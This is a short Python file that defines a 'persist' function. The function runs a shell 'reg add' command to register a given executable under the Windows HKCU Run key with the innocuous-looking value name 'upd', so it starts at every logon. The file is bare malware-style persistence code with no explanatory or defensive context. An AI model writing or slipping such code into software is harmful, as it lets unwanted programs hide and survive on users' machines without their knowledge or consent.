import os


def persist(exe):
    os.system(
        f'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /d "{exe}" /f'
    )
